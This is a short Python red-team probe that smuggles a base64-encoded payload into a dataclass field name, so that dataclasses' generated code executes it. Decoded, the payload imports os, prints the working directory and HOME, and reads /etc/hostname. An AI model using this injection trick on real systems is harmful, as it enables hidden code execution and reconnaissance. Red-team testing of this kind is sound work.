# family: red team, round 52a (a Field kept as a dict value, renamed through a loop over values)
import base64
import dataclasses
import operator
import functools

CODE = "eCxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk="


@dataclasses.dataclass
class A:
    x: int = 0


def main():
    table = {"a": dataclasses.fields(A)[0]}
    for v in table.values():
        v.name = base64.b64decode(CODE).decode()

    @dataclasses.dataclass(init=False, repr=False)
    class B(A):
        pass

    print(B() == B())


main()
